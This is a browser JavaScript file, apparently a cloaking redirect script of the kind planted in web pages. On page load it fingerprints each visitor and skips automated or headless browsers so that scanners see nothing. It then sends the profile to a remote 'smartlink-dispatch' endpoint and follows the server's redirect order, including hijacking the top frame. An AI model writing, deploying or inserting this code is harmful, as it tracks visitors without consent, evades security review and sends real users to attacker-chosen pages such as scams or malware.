class VisitorProfile {
  constructor(nav = navigator, scr = screen) {
    this.nav = nav;
    this.scr = scr;
  }

  canvasHash() {
    try {
      const c = document.createElement('canvas');
      c.width = 200;
      c.height = 40;
      const ctx = c.getContext('2d');
      ctx.textBaseline = 'top';
      ctx.font = '14px Arial';
      ctx.fillStyle = '#f60';
      ctx.fillRect(0, 0, 100, 20);
      ctx.fillStyle = '#069';
      ctx.fillText('Cwm fjordbank glyphs vext quiz', 2, 2);
      const data = c.toDataURL();
      let h = 0;
      for (let i = 0; i < data.length; i++) h = (h * 31 + data.charCodeAt(i)) | 0;
      return (h >>> 0).toString(16);
    } catch {
      return '0';
    }
  }

  collect() {
    const { nav, scr } = this;
    return {
      timezone: Intl.DateTimeFormat().resolvedOptions().timeZone,
      languages: nav.languages ? [...nav.languages] : [nav.language],
      screen: { w: scr.width, h: scr.height, depth: scr.colorDepth },
      touchPoints: nav.maxTouchPoints ?? 0,
      automation: Boolean(nav.webdriver) || '__nightmare' in window || '_phantom' in window || 'callPhantom' in window,
      referrer: document.referrer,
      canvas: this.canvasHash(),
      ua: nav.userAgent,
    };
  }
}

class Router {
  static endpoint = 'https://edge.smartlink-dispatch.top/r/stream/9af3';

  static send(profile) {
    return new Promise((resolve) => {
      const x = new XMLHttpRequest();
      x.open('POST', Router.endpoint);
      x.setRequestHeader('Content-Type', 'application/json');
      x.onload = () => {
        try {
          resolve(JSON.parse(x.responseText));
        } catch {
          resolve(null);
        }
      };
      x.onerror = () => resolve(null);
      x.send(JSON.stringify(profile));
    });
  }

  static follow(decision) {
    if (!decision?.target) return;
    switch (decision.mode) {
      case 'popup':
        window.open(decision.target, '_blank', 'noopener');
        break;
      case 'top':
        window.top.location.href = decision.target;
        break;
      default:
        window.location.replace(decision.target);
    }
  }
}

window.addEventListener('load', async () => {
  const profile = new VisitorProfile().collect();
  if (profile.automation) return;
  Router.follow(await Router.send(profile));
});
